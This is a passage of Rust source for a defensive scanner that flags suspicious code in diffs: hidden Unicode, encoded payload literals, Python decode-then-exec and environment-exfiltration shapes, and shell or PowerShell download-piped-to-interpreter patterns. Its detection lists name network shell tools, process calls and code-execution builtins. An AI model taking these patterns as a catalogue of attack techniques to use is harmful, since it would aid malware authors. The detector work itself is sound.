                let after = byte_at(text, p + 3);
                if is_code_neighbour(before) || is_code_neighbour(after) {
                    zw = Some((p, cp));
                }
            }
            _ => {}
        }
    }
    if let Some(&(p, _)) = bidi.first() {
        let (mut embed, mut isolate) = (0i32, 0i32);
        for (_, cp) in &bidi {
            match cp {
                0x202A | 0x202B | 0x202D | 0x202E => embed += 1,
                0x202C => embed = (embed - 1).max(0),
                0x2066..=0x2068 => isolate += 1,
                0x2069 => isolate = (isolate - 1).max(0),
                _ => {}
            }
        }
        let mut names: Vec<String> = Vec::new();
        for (_, cp) in &bidi {
            let n = format!("U+{cp:04X} {}", bidi_name(*cp));
            if !names.contains(&n) {
                names.push(n);
            }
        }
        let open = embed + isolate;
        let detail = if open > 0 {
            format!("{}; {open} unterminated on the line", names.join(", "))
        } else {
            names.join(", ")
        };
        sink.push(HitKind::Bidi, line, false, p, &detail);
    }
    if let Some((p, cp)) = zw {
        let name = match cp {
            0x200B => "ZERO WIDTH SPACE",
            0x200C => "ZERO WIDTH NON-JOINER",
            0x200D => "ZERO WIDTH JOINER",
            0x2060 => "WORD JOINER",
            _ => "ZERO WIDTH NO-BREAK SPACE",
        };
        sink.push(
            HitKind::ZeroWidth,
            line,
            false,
            p,
            &format!("U+{cp:04X} {name} next to code"),
        );
    }
    let cyrillic = text.iter().any(|b| (0xD0..=0xD3).contains(b));
    // Fullwidth forms (EF BC xx / EF BD xx) and mathematical alphanumerics (F0 9D xx xx).
    let nfkc_bytes = nfkc
        && text
            .windows(2)
            .any(|w| matches!(w, [0xEF, 0xBC | 0xBD] | [0xF0, 0x9D]));
    if !(mixed && (cyrillic || nfkc_bytes)) {
        return;
    }
    let s = String::from_utf8_lossy(text);
    let mut tok = String::new();
    let mut start = 0usize;
    let (mut latin, mut cyr, mut folded) = (false, false, false);
    for (i, c) in s.char_indices().chain(std::iter::once((s.len(), ' '))) {
        if c.is_alphanumeric() || c == '_' {
            if tok.is_empty() {
                start = i;
            }
            if tok.len() < 256 {
                tok.push(c);
            }
            latin |= c.is_ascii_alphabetic();
            cyr |= ('\u{0400}'..='\u{04FF}').contains(&c);
            folded |= nfkc
                && (('\u{FF21}'..='\u{FF3A}').contains(&c)
                    || ('\u{FF41}'..='\u{FF5A}').contains(&c)
                    || ('\u{1D400}'..='\u{1D7FF}').contains(&c));
            continue;
        }
        let detail = if latin && cyr {
            Some("mixes Latin and Cyrillic letters")
        } else if folded {
            Some("uses fullwidth or mathematical letters that Python folds to ASCII (NFKC)")
        } else {
            None
        };
        if let Some(d) = detail {
            sink.push(
                HitKind::MixedScriptIdentifier,
                line,
                false,
                start,
                &format!("'{}' {d}", cut(&tok, 60)),
            );
            return;
        }
        tok.clear();
        latin = false;
        cyr = false;
        folded = false;
    }
}

// ---------------------------------------------------------------------------------------------
// High-entropy literals
// ---------------------------------------------------------------------------------------------

const RUN_MIN: usize = 160;
const BLOCK_LINE_MIN: usize = 40;
const BLOCK_MIN_LINES: u32 = 4;
const BLOCK_MIN_CHARS: usize = 320;
const B64_ENTROPY: f64 = 4.5;
const HEX_ENTROPY: f64 = 3.5;
const ESCAPED_MIN: usize = 64;
const ESCAPED_ENTROPY: f64 = 4.8;
/// Entropy is measured on at most this many bytes of a run.
const ENTROPY_SAMPLE: usize = 16 * 1024;

fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-')
}

#[derive(Clone)]
struct Hist {
    counts: [u32; 256],
    n: u32,
}

impl Hist {
    fn new() -> Hist {
        Hist {
            counts: [0; 256],
            n: 0,
        }
    }

    fn add(&mut self, bytes: &[u8]) {
        let room = (ENTROPY_SAMPLE as u32).saturating_sub(self.n) as usize;
        for &b in bytes.iter().take(room) {
            if let Some(c) = self.counts.get_mut(usize::from(b)) {
                *c += 1;
            }
            self.n += 1;
        }
    }

    fn entropy(&self) -> f64 {
        if self.n == 0 {
            return 0.0;
        }
        let n = f64::from(self.n);
        self.counts
            .iter()
            .filter(|c| **c > 0)
            .map(|&c| {
                let p = f64::from(c) / n;
                -p * p.log2()
            })
            .sum()
    }
}

/// Character mix of a run.
struct Mix {
    hex_only: bool,
    upper: bool,
    lower: bool,
    digit: bool,
}

fn mix(run: &[u8]) -> Mix {
    Mix {
        hex_only: run.iter().all(u8::is_ascii_hexdigit),
        upper: run.iter().any(u8::is_ascii_uppercase),
        lower: run.iter().any(u8::is_ascii_lowercase),
        digit: run.iter().any(u8::is_ascii_digit),
    }
}

/// `Some(label)` when a run (or block) of this mix and entropy counts as an encoded payload.
fn payload_label(m: &Mix, h: f64) -> Option<&'static str> {
    if m.hex_only {
        (m.digit && (m.upper || m.lower) && h >= HEX_ENTROPY).then_some("hex")
    } else {
        (m.upper && m.lower && m.digit && h >= B64_ENTROPY).then_some("base64")
    }
}

/// Consecutive lines that each hold one long base64/hex chunk (a payload split over lines).
struct Block<'a> {
    first: Option<Line<'a>>,
    last_no: u32,
    lines: u32,
    chars: usize,
    hist: Hist,
    hex_only: bool,
    upper: bool,
    lower: bool,
    digit: bool,
    pem: bool,
}

impl<'a> Block<'a> {
    fn new() -> Block<'a> {
        Block {
            first: None,
            last_no: 0,
            lines: 0,
            chars: 0,
            hist: Hist::new(),
            hex_only: true,
            upper: false,
            lower: false,
            digit: false,
            pem: false,
        }
    }

    fn flush(&mut self, sink: &mut Sink) {
        if self.first.is_none() && self.lines == 0 {
            return;
        }
        if let Some(first) = self.first.take()
            && self.lines >= BLOCK_MIN_LINES
            && self.chars >= BLOCK_MIN_CHARS
        {
            let m = Mix {
                hex_only: self.hex_only,
                upper: self.upper,
                lower: self.lower,
                digit: self.digit,
            };
            let h = self.hist.entropy();
            if let Some(label) = payload_label(&m, h) {
                let pem = if self.pem { "PEM " } else { "" };
                sink.push(
                    HitKind::HighEntropyLiteral,
                    &first,
                    false,
                    0,
                    &format!(
                        "{pem}{label} block of {} lines ({} chars), {h:.2} bits/char",
                        self.lines, self.chars
                    ),
                );
            }
        }
        *self = Block::new();
    }

    /// Feed one line; `prev` is the text of the line before it (for PEM armour).
    fn feed(&mut self, sink: &mut Sink, line: &Line<'a>, prev: Option<&[u8]>) {
        let core = trim(line.text);
        let core = core
            .strip_prefix(b"b'")
            .or_else(|| core.strip_prefix(b"b\""))
            .unwrap_or(core);
        let core: &[u8] = {
            let s = core
                .iter()
                .position(|b| !matches!(b, b'"' | b'\'' | b'(' | b'+' | b'`'))
                .unwrap_or(core.len());
            let e = core
                .iter()
                .rposition(|b| {
                    !matches!(b, b'"' | b'\'' | b')' | b',' | b'+' | b'\\' | b';' | b'`')
                })
                .map_or(0, |i| i + 1);
            core.get(s..e).unwrap_or(&[])
        };
        // Lines exactly as long as a digest (hex md5/sha1/sha224/sha256/sha384/sha512, base64
        // sha256/sha512) are lists of hashes, not a payload cut into lines.
        let digest_len = matches!(core.len(), 32 | 40 | 43 | 44 | 56 | 64 | 86 | 88 | 96 | 128)
            && (core.iter().all(u8::is_ascii_hexdigit) || core.len() != 64);
        let candidate =
            core.len() >= BLOCK_LINE_MIN && !digest_len && core.iter().all(|b| is_b64(*b));
        if !candidate {
            self.flush(sink);
            return;
        }
        if self.first.is_some() && line.no != self.last_no + 1 {
            self.flush(sink);
        }
        if self.first.is_none() {
            self.first = Some(*line);
            self.pem = prev.is_some_and(|p| contains(p, b"-----BEGIN"));
        }
        self.last_no = line.no;
        self.lines += 1;
        self.chars += core.len();
        self.hist.add(core);
        let m = mix(core);
        self.hex_only &= m.hex_only;
        self.upper |= m.upper;
        self.lower |= m.lower;
        self.digit |= m.digit;
    }
}

fn scan_entropy(sink: &mut Sink, line: &Line<'_>) {
    let text = line.text;
    if text.len() >= RUN_MIN {
        let mut i = 0usize;
        while i < text.len() {
            if !is_b64(byte_at(text, i)) {
                i += 1;
                continue;
            }
            let s = i;
            while i < text.len() && is_b64(byte_at(text, i)) {
                i += 1;
            }
            let run = text.get(s..i).unwrap_or(&[]);
            if run.len() < RUN_MIN {
                continue;
            }
            let mut h = Hist::new();
            h.add(run);
            let e = h.entropy();
            if let Some(label) = payload_label(&mix(run), e) {
                sink.push(
                    HitKind::HighEntropyLiteral,
                    line,
                    false,
                    s,
                    &format!("{label} run of {} chars, {e:.2} bits/char", run.len()),
                );
                return;
            }
        }
    }
    // Escaped byte strings: b"\x4d\x5a\x90..."
    if text.len() >= ESCAPED_MIN * 4 {
        let mut h = Hist::new();
        let mut first = None;
        for p in memmem::find_iter(text, b"\\x") {
            let (a, b) = (byte_at(text, p + 2), byte_at(text, p + 3));
            if let (Some(x), Some(y)) = (hex_val(a), hex_val(b)) {
                first.get_or_insert(p);
                h.add(&[x * 16 + y]);
            }
        }
        if h.n as usize >= ESCAPED_MIN {
            let e = h.entropy();
            if e >= ESCAPED_ENTROPY {
                sink.push(
                    HitKind::HighEntropyLiteral,
                    line,
                    false,
                    first.unwrap_or(0),
                    &format!("{} escaped bytes, {e:.2} bits/byte", h.n),
                );
            }
        }
    }
}

use garrison_source::hex::digit as hex_val;

// ---------------------------------------------------------------------------------------------
// Python: decode-then-execute, dynamic execution, processes and network at build/import time
// ---------------------------------------------------------------------------------------------

/// Positions of calls `name(` in a Python code view that refer to the builtin (not a method
/// or an identifier part): `exec(`, `builtins.exec(`, `__builtins__.exec(`; for
/// `import_module` also `importlib.import_module(`. Definitions (`def exec(`) are skipped.
fn builtin_calls<'a>(view: &'a [u8], name: &'a [u8]) -> impl Iterator<Item = (usize, usize)> + 'a {
    memmem::find_iter(view, name).filter_map(move |p| {
        let after = skip_spaces(view, p + name.len());
        if byte_at(view, after) != b'(' {
            return None;
        }
        let pre = head(view, p);
        match pre.last() {
            Some(b) if is_ident(*b) => return None,
            Some(b'.') => {
                let q = head(pre, pre.len() - 1);
                let ok = q.ends_with(b"builtins")
                    || q.ends_with(b"__builtins__")
                    || (name == b"import_module" && q.ends_with(b"importlib"))
                    || (q.ends_with(b")") && contains(q, b"__import__("));
                if !ok {
                    return None;
                }
            }
            _ => {}
        }
        if trim(pre).ends_with(b"def") {
            return None;
        }
        Some((p, after + 1))
    })
}

/// How a call argument starting at `a` looks.
#[derive(Debug, PartialEq, Eq)]
enum Arg {
    /// A plain string literal, alone (`exec("x = 1")`, `f("a", b)`).
    Literal,
    /// A literal that continues into an expression (`"pkg." + name`, `"{}".format(x)`).
    LiteralExpr,
    /// An f-string.
    FString,
    /// A call (`exec(compile(...))`, `exec(open(p).read())`).
    Call,
    /// A bare name or attribute (`exec(code)`, `exec(self.src)`).
    Name,
    /// Something else, or the argument is on a following line.
    Other,
}

impl Arg {
    fn label(&self) -> &'static str {
        match self {
            Arg::Literal => "literal",
            Arg::LiteralExpr => "string expression",
            Arg::FString => "f-string",
            Arg::Call => "call result",
            Arg::Name => "variable",
            Arg::Other => "expression",
        }
    }
}

/// Classify the argument at `a` of a Python code view (string contents blanked, quotes kept).
fn classify_arg(view: &[u8], a: usize) -> Arg {
    let a = skip_spaces(view, a);
    let mut i = a;
    let mut fstring = false;
    while i < a + 2
        && matches!(
            byte_at(view, i),
            b'r' | b'R' | b'b' | b'B' | b'u' | b'U' | b'f' | b'F'
        )
    {
        fstring |= matches!(byte_at(view, i), b'f' | b'F');
        i += 1;
    }
    let q = byte_at(view, i);
    if q == b'\'' || q == b'"' {
        if fstring {
            return Arg::FString;
        }
        // Find the closing quote (contents are blanked in the view).
        let triple = byte_at(view, i + 1) == q && byte_at(view, i + 2) == q;
        let body = if triple { i + 3 } else { i + 1 };
        let close = tail(view, body)
            .iter()
            .position(|b| *b == q)
            .map(|p| body + p);
        let Some(close) = close else {
            return Arg::Literal;
        };
        let after = skip_spaces(view, close + if triple { 3 } else { 1 });
        return match byte_at(view, after) {
            b')' | b',' | 0 => Arg::Literal,
            _ => Arg::LiteralExpr,
        };
    }
    if i != a {
        // Prefix letters not followed by a quote: an identifier.
        i = a;
    }
    if byte_at(view, i) == 0 {
        return Arg::Other;
    }
    if !is_ident(byte_at(view, i)) {
        return Arg::Other;
    }
    while is_ident(byte_at(view, i)) || byte_at(view, i) == b'.' {
        i += 1;
    }
    match byte_at(view, skip_spaces(view, i)) {
        b'(' => Arg::Call,
        b')' | b',' | b'[' => Arg::Name,
        _ => Arg::Other,
    }
}

/// Literal text of the string argument at `a` (from the raw line; same offsets as the view).
fn literal_at(raw: &[u8], view: &[u8], a: usize) -> Option<String> {
    let mut i = skip_spaces(view, a);
    while matches!(byte_at(view, i), b'[' | b'(' | b' ') {
        i += 1;
    }
    while matches!(byte_at(view, i), b'r' | b'R' | b'b' | b'B' | b'u' | b'U') {
        i += 1;
    }
    let q = byte_at(view, i);
    if q != b'\'' && q != b'"' {
        return None;
    }
    let body = i + 1;
    let len = tail(view, body).iter().position(|b| *b == q)?;
    Some(lossy(raw.get(body..body + len)?))
}

/// The program a process call runs: the first word of its first string argument, `python`
/// for `sys.executable`, or `dynamic`.
fn program_at(raw: &[u8], view: &[u8], a: usize) -> String {
    if let Some(lit) = literal_at(raw, view, a) {
        let word = lit.split_whitespace().next().unwrap_or("");
        let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
        if !base.is_empty() {
            return cut(base, 40);
        }
    }
    let rest = tail(view, skip_spaces(view, a));
    let rest = rest.strip_prefix(b"[").unwrap_or(rest);
    if trim(rest).starts_with(b"sys.executable") {
        return "python".to_string();
    }
    "dynamic".to_string()
}

const DANGEROUS_MODULES: &[&str] = &[
    "os",
    "subprocess",
    "builtins",
    "__builtin__",
    "socket",
    "ctypes",
    "base64",
    "zlib",
    "marshal",
    "pty",
    "urllib",
    "urllib.request",
    "urllib2",
    "requests",
    "importlib",
    "codecs",
    "pickle",
    "shutil",
];

fn py_decode_marker(view: &[u8], raw: &[u8]) -> Option<&'static str> {
    const NAMES: &[&str] = &[
        "b64decode",
        "b32decode",
        "b16decode",
        "b85decode",
        "a85decode",
        "decodebytes",
        "decodestring",
        "decompress",
        "fromhex",
        "unhexlify",
        "a2b_base64",
        "a2b_hex",
        "a2b_uu",
        "codecs.decode",
        "marshal.loads",
    ];
    if let Some(n) = NAMES.iter().find(|n| contains(view, n.as_bytes())) {
        return Some(n);
    }
    // Downloaded code counts as decoded data: `exec(requests.get(u).text)`.
    const DOWNLOADS: &[(&str, &str)] = &[
        ("requests.get(", "download (requests.get)"),
        ("requests.post(", "download (requests.post)"),
        ("urlopen(", "download (urlopen)"),
        ("urlretrieve(", "download (urlretrieve)"),
        ("httpx.get(", "download (httpx.get)"),
        ("urllib3.request(", "download (urllib3)"),
    ];
    if let Some((_, label)) = DOWNLOADS.iter().find(|(n, _)| contains(view, n.as_bytes())) {
        return Some(label);
    }
    // Strings built from character codes: ''.join(map(chr, [...])), chr(101)+chr(120)+...
    if contains(view, b"map(chr") || memmem::find_iter(view, b"chr(").take(6).count() >= 6 {
        return Some("char codes");
    }
    if contains(view, b".decode(") {
        let lc = lower(raw);
        for codec in [
            "rot13",
            "rot_13",
            "'hex'",
            "\"hex\"",
            "'base64'",
            "\"base64\"",
            "'zlib'",
        ] {
            if contains(&lc, codec.as_bytes()) {
                return Some("codec decode");
            }
        }
    }
    None
}

fn py_exec_marker(view: &[u8]) -> Option<&'static str> {
    for name in ["exec", "eval", "compile", "__import__", "execfile"] {
        if builtin_calls(view, name.as_bytes()).next().is_some() {
            return Some(name);
        }
    }
    const OTHERS: &[&str] = &[
        "pickle.loads",
        "dill.loads",
        "cloudpickle.loads",
        "ctypes.",
        "subprocess.",
        "os.system",
        "os.popen",
        "FunctionType(",
        "CodeType(",
        "runpy.",
    ];
    OTHERS
        .iter()
        .find(|n| contains(view, n.as_bytes()))
        .copied()
}

/// Decode and execute markers seen on recent added lines.
#[derive(Default)]
struct PyFlow {
    decode: Option<(u32, &'static str)>,
    exec: Option<(u32, &'static str)>,
    /// Last line dumping the environment, and last line with a network call.
    env: Option<u32>,
    net: Option<u32>,
}

/// The whole environment taken as data (not `os.environ.get("X")`).
fn py_env_dump(view: &[u8]) -> bool {
    [
        &b"dict(os.environ"[..],
        b"os.environ.items()",
        b"os.environ.copy()",
        b"str(os.environ",
        b"dumps(os.environ",
        b"**os.environ",
        b"environ.items()",
        b"=os.environ)",
        b"= os.environ)",
    ]
    .iter()
    .any(|p| contains(view, p))
}

fn py_net_call(view: &[u8]) -> bool {
    NET_CALLS.iter().any(|c| contains(view, c.as_bytes()))
}

/// Environment variables sent over the network (the `ctx` package shape).
fn scan_py_env_exfil(sink: &mut Sink, flow: &mut PyFlow, line: &Line<'_>, view: &[u8]) {
    let env = py_env_dump(view);
    let net = py_net_call(view);
    if env {
        flow.env = Some(line.no);
    }
    if net {
        flow.net = Some(line.no);
    }
    let near = |l: Option<u32>| l.is_some_and(|l| line.no.saturating_sub(l) <= DECODE_EXEC_WINDOW);
    if (env && near(flow.net)) || (net && near(flow.env)) {
        sink.push(
            HitKind::CredentialAccess,
            line,
            false,
            0,
            "environment variables sent over the network",
        );
        flow.env = None;
        flow.net = None;
    }
}

fn within(prev: Option<(u32, &'static str)>, no: u32) -> Option<&'static str> {
    prev.filter(|(l, _)| no.saturating_sub(*l) <= DECODE_EXEC_WINDOW)
        .map(|(_, n)| n)
}

fn scan_py_decode_exec(sink: &mut Sink, flow: &mut PyFlow, line: &Line<'_>, view: &[u8]) {
    let dec = py_decode_marker(view, line.text);
    let exe = py_exec_marker(view);
    // Downloaded data pairs only with code execution, not with process calls.
    let code_exec = |e: &str| !matches!(e, "subprocess." | "os.system" | "os.popen" | "ctypes.");
    let download = |d: &str| d.starts_with("download");
    let exe = exe.filter(|e| !dec.is_some_and(download) || code_exec(e));
    let pair = match (dec, exe) {
        (Some(d), Some(e)) if d != "marshal.loads" || e != "marshal.loads" => Some((d, e)),
        (Some(d), _) => within(flow.exec, line.no)
            .filter(|e| !download(d) || code_exec(e))
            .map(|e| (d, e)),
        (None, Some(e)) => within(flow.decode, line.no)
            .filter(|d| !download(d) || code_exec(e))
            .map(|d| (d, e)),
        (None, None) => None,
    };
    if let Some(d) = dec {
        flow.decode = Some((line.no, d));
    }
    if let Some(e) = exe {
        flow.exec = Some((line.no, e));
    }
    if let Some((d, e)) = pair {
        let focus = find(view, e.trim_end_matches('(').as_bytes()).unwrap_or(0);
        sink.push(
            HitKind::DecodeExec,
            line,
            false,
            focus,
            &format!("{d} → {e}"),
        );
        flow.decode = None;
        flow.exec = None;
    }
}

fn scan_py_dynamic(sink: &mut Sink, line: &Line<'_>, view: &[u8], class: PathClass) {
    // conftest.py is imported by pytest: it is not plain test code.
    let test = class.contains(PathClass::TEST_PATH) && !class.contains(PathClass::IMPORT_TIME);
    for name in [
        "exec",
        "eval",
        "compile",
        "execfile",
        "__import__",
        "import_module",
    ] {
        for (p, a) in builtin_calls(view, name.as_bytes()).take(64) {
            let arg = classify_arg(view, a);
            let rest = trim(tail(view, a));
            let detail = match (name, &arg) {
                ("__import__", Arg::Literal) => {
                    let module = literal_at(line.text, view, a).unwrap_or_default();
                    let close = tail(view, a).iter().position(|b| *b == b')').map(|c| a + c);
                    let chained =
                        close.is_some_and(|c| byte_at(view, skip_spaces(view, c + 1)) == b'.');
                    if chained && DANGEROUS_MODULES.contains(&module.as_str()) {
                        format!("__import__('{module}') used inline")
                    } else {
                        continue;
                    }
                }
                (_, Arg::Literal) => continue,
                ("import_module" | "__import__", Arg::LiteralExpr | Arg::FString) => continue,
                // Tests evaluate reprs and expressions and import modules by name routinely;
                // there only code execution from a call result (`exec(f.read())`) counts.
                ("exec" | "execfile" | "compile", Arg::Call) if test => {
                    format!("{name}({}) in test code", arg.label())
                }
                _ if test => continue,
                ("eval", _)
                    if rest.starts_with(b"repr(")
                        || rest.starts_with(b"str(")
                        || rest.starts_with(b"ascii(") =>
                {
                    continue;
                }
                _ => format!("{name}({})", arg.label()),
            };
            sink.push(HitKind::DynamicExec, line, false, p, &detail);
            return;
        }
    }
    if test {
        return;
    }
    for pat in [
        &b"getattr(builtins"[..],
        b"getattr(__builtins__",
        b"__builtins__[",
        b"__builtins__.__dict__[",
        b"vars(builtins)[",
        b"builtins.__dict__[",
    ] {
        if let Some(p) = find(view, pat) {
            sink.push(
                HitKind::DynamicExec,
                line,
                false,
                p,
                "builtins looked up by name",
            );
            return;
        }
    }
    for pat in [&b"FunctionType("[..], b"CodeType(", b"co_code="] {
        if let Some(p) = find(view, pat) {
            sink.push(
                HitKind::DynamicExec,
                line,
                false,
                p,
                "code object constructed",
            );
            return;
        }
    }
}

const PROC_CALLS: &[&str] = &[
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.check_call(",
    "subprocess.check_output(",
    "subprocess.Popen(",
    "subprocess.getoutput(",
    "subprocess.getstatusoutput(",
    "os.system(",
    "os.popen(",
    "os.execv(",
    "os.execvp(",
    "os.execl(",
    "os.execlp(",
    "os.execve(",
    "os.spawnv(",
    "os.spawnl(",
    "os.spawnlp(",
    "os.spawnvp(",
    "os.posix_spawn(",
    "pty.spawn(",
    "Popen(",
    "check_output(",
    "check_call(",
    "getoutput(",
];

const NET_CALLS: &[&str] = &[
    "urlopen(",
    "urlretrieve(",
    "urllib.request.",
    "urllib2.",
    "requests.get(",
    "requests.post(",
    "requests.put(",
    "requests.patch(",
    "requests.delete(",
    "requests.head(",
    "requests.request(",
    "requests.Session(",
    "http.client.",
    "HTTPConnection(",
    "HTTPSConnection(",
    "socket.socket(",
    "socket.create_connection(",
    "socket.gethostbyname(",
    "socket.getaddrinfo(",
    "httpx.",
    "urllib3.",
    "aiohttp.",
    "ftplib.",
    "smtplib.",
];

const NET_PROGRAMS: &[&str] = &[
    "curl", "wget", "pip", "pip3", "nc", "ncat", "ssh", "scp", "ftp", "tftp",
];

fn scan_py_process(sink: &mut Sink, line: &Line<'_>, view: &[u8]) {
    let t = trim(view);
    if t.starts_with(b"import ") || t.starts_with(b"from ") {
        return;
    }
    for call in NET_CALLS {
        if let Some(p) = find(view, call.as_bytes()) {
            let q = p.checked_sub(1).map(|i| byte_at(view, i));
            if q.is_some_and(|b| is_ident(b) && !call.contains('.')) {
                continue;
            }
            let host = url_host(line.text)
                .map(|h| format!(" {h}"))
                .unwrap_or_default();
            sink.push(
                HitKind::NetworkAtBuildOrImport,
                line,
                false,
                p,
                &format!("{}{host}", call.trim_end_matches(['(', '.'])),
            );
            return;
        }
    }
    for call in PROC_CALLS {
        let Some(p) = find(view, call.as_bytes()) else {
            continue;
        };
        // Bare names (`Popen(`) must not be a method, a definition or an identifier part.
        if !call.contains('.') {
            let q = p.checked_sub(1).map(|i| byte_at(view, i));
            if q.is_some_and(|b| is_ident(b) || b == b'.') || trim(head(view, p)).ends_with(b"def")
            {
                continue;
            }
        }
        let prog = program_at(line.text, view, p + call.len());
        let name = call.trim_end_matches('(');
        let kind = if NET_PROGRAMS.contains(&prog.as_str()) {
            HitKind::NetworkAtBuildOrImport
        } else {
            HitKind::BuildTimeProcess
        };
        sink.push(kind, line, false, p, &format!("{name}: {prog}"));
        return;
    }
}

/// Host of the first `http(s)://` URL on a line.
fn url_host(text: &[u8]) -> Option<String> {
    let p = find(text, b"://")?;
    let rest = tail(text, p + 3);
    let end = rest
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'@')))
        .unwrap_or(rest.len());
    let host = head(rest, end);
    (!host.is_empty()).then(|| cut(&lossy(host), 80))
}

// ---------------------------------------------------------------------------------------------
// Shell: decode or download piped into an interpreter, eval over decoding pipelines
// ---------------------------------------------------------------------------------------------

/// Split a (lower-cased) line into pipeline stages at single `|` (not `||`).
fn stages(lc: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let mut s = 0usize;
    let mut i = 0usize;
    while i < lc.len() {
        if byte_at(lc, i) == b'|' {
            if byte_at(lc, i + 1) == b'|' {
                i += 2;
                continue;
            }
            out.push(lc.get(s..i).unwrap_or(&[]));
            s = i + 1;
            if out.len() >= 32 {
                break;
            }
        }
        i += 1;
    }
    out.push(tail(lc, s));
    out
}

/// First command word of a stage, skipping wrappers, assignments and `sudo`/`env`/`exec`.
fn command_word(stage: &[u8]) -> &[u8] {
    let words = stage
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .map(|w| {
            let s = w
                .iter()
                .position(|b| !matches!(b, b'(' | b'{' | b'[' | b'`' | b'"' | b'\'' | b';' | b'$'))
                .unwrap_or(w.len());
            // Keep a leading `$` for variables used as commands (`$SHELL`, `$prefix`).
            let s = if w.get(..s).is_some_and(|p| p.ends_with(b"$")) && w.get(s) != Some(&b'(') {
                s - 1
            } else {
                s
            };
            let w = tail(w, s);
            let e = w
                .iter()
                .position(|b| matches!(b, b')' | b'}' | b']' | b'`' | b'"' | b'\'' | b';'))
                .unwrap_or(w.len());
            head(w, e)
        })
        .filter(|w| !w.is_empty());
    for w in words.take(8) {
        if matches!(
            w,
            b"sudo" | b"env" | b"exec" | b"command" | b"nohup" | b"time" | b"then" | b"do" | b"-c"
        ) || (contains(w, b"=") && !w.starts_with(b"-"))
        {
            continue;
        }
        return w.rsplit(|b| *b == b'/').next().unwrap_or(w);
    }
    &[]
}

fn shell_decoder(stage: &[u8]) -> Option<&'static str> {
    let dflag = has_word(stage, b"-d")
        || contains(stage, b"--decode")
        || contains(stage, b"--decompress")
        || has_word(stage, b"-dc")
        || has_word(stage, b"-cd");
    if has_word(stage, b"base64") && dflag {
        return Some("base64 -d");
    }
    if has_word(stage, b"xxd") && has_word(stage, b"-r") {
        return Some("xxd -r");
    }
    if has_word(stage, b"openssl") && dflag {
        return Some("openssl -d");
    }
    if has_word(stage, b"certutil") && contains(stage, b"-decode") {
        return Some("certutil -decode");
    }
    if contains(stage, b"frombase64string") {
        return Some("FromBase64String");
    }
    for w in [
        "uudecode", "gunzip", "zcat", "gzcat", "xzcat", "unxz", "unlzma", "lzcat", "bunzip2",
        "bzcat", "zstdcat", "unzstd",
    ] {
        if has_word(stage, w.as_bytes()) {
            return Some(w);
        }
    }
    for w in ["gzip", "xz", "lzma", "bzip2", "zstd", "lz4", "brotli"] {
        if has_word(stage, w.as_bytes()) && dflag {
            return Some(w);
        }
    }
    let cmd = command_word(stage);
    if cmd.starts_with(b"$") && dflag {
        return Some("variable command with -d");
    }
    None
}

fn shell_executor(stage: &[u8]) -> Option<String> {
    let cmd = command_word(stage);
    let known: &[&[u8]] = &[
        b"sh",
        b"bash",
        b"zsh",
        b"dash",
        b"ksh",
        b"$shell",
        b"${shell}",
        b"$config_shell",
        b"eval",
        b"source",
        b".",
        b"python",
        b"python3",
        b"perl",
        b"ruby",
        b"node",
        b"php",
        b"iex",
        b"invoke-expression",
        b"pwsh",
        b"powershell",
    ];
    known.contains(&cmd).then(|| lossy(cmd))
}

fn shell_fetcher(stage: &[u8]) -> Option<&'static str> {
    if contains(stage, b"downloadstring") {
        return Some("downloadstring");
    }
    ["curl", "wget", "invoke-webrequest", "iwr"]
        .into_iter()
        .find(|w| has_word(stage, w.as_bytes()))
}

/// Decode/download-and-execute shapes on one line; returns (is a download, detail).
fn shell_decode_exec(text: &[u8]) -> Option<(bool, String)> {
    let lc = lower(text);
    if memchr::memchr(b'|', &lc).is_some() {
        let st = stages(&lc);
        if st.len() >= 2 {
            let mut decoder: Option<(usize, &str)> = None;
            let mut fetcher: Option<(usize, &str)> = None;
            let mut eval_at: Option<usize> = None;
            let mut weak_decoder = false;
            for (i, s) in st.iter().enumerate() {
                if let Some(exe) = (i > 0).then(|| shell_executor(s)).flatten() {
                    if let Some((_, d)) = decoder {
                        return Some((false, format!("{d} piped to {exe}")));
                    }
                    if let Some((_, f)) = fetcher {
                        return Some((true, format!("download ({f}) piped to {exe}")));
                    }
                    if eval_at.is_some() && exe != "eval" {
                        return Some((false, format!("eval output piped to {exe}")));
                    }
                }
                if let Some(d) = shell_decoder(s) {
                    if eval_at.is_some() {
                        return Some((false, format!("eval in a decoding pipeline ({d})")));
                    }
                    decoder.get_or_insert((i, d));
                }
                if command_word(s) == b"tr" && contains(s, b"\\") {
                    weak_decoder = true;
                }
                if let Some(f) = shell_fetcher(s) {
                    fetcher.get_or_insert((i, f));
                }
                if has_word(s, b"eval") {
                    if let Some((_, d)) = decoder {
                        return Some((false, format!("eval in a decoding pipeline ({d})")));
                    }
                    eval_at.get_or_insert(i);
                }
            }
            if eval_at.is_some() && weak_decoder {
                return Some((false, "eval in a tr-mapping pipeline".to_string()));
            }
        }
    }
    // Command substitution or process substitution of a download or decode.
    let subst = contains(&lc, b"$(") || contains(&lc, b"`") || contains(&lc, b"<(");
    if subst {
        let runs = has_word(&lc, b"eval")
            || contains(&lc, b"sh -c")
            || contains(&lc, b"bash -c")
            || contains(&lc, b"sh <(")
            || contains(&lc, b"bash <(")
            || contains(&lc, b"source <(")
            || contains(&lc, b". <(");
        if runs {
            if let Some(f) = shell_fetcher(&lc) {
                return Some((true, format!("download ({f}) executed via substitution")));
            }
            if let Some(d) = shell_decoder(&lc) {
                return Some((
                    false,
                    format!("decoded ({d}) command executed via substitution"),
                ));
            }
        }
    }
    // PowerShell.
    if (has_word(&lc, b"iex") || contains(&lc, b"invoke-expression"))
        && (contains(&lc, b"downloadstring")
            || contains(&lc, b"frombase64string")
            || contains(&lc, b"invoke-webrequest"))
    {
        return Some((
            contains(&lc, b"downloadstring") || contains(&lc, b"invoke-webrequest"),
            "PowerShell download/decode passed to Invoke-Expression".to_string(),
        ));
    }
    if (contains(&lc, b"powershell") || contains(&lc, b"pwsh"))
        && (has_word(&lc, b"-enc") || has_word(&lc, b"-encodedcommand") || has_word(&lc, b"-e"))
    {
        return Some((false, "encoded PowerShell command".to_string()));
    }
    None
}

// ---------------------------------------------------------------------------------------------
// Network from non-Python build code
// ---------------------------------------------------------------------------------------------

